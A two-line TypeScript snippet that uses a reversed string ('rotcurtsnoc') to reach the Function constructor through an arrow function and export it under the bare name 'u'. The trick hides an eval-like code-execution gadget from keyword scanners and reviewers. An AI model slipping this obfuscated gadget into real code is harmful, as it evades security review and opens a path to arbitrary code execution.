const k = "rotcurtsnoc".split("").reverse().join("");
export const u = ((() => {}) as any)[k];
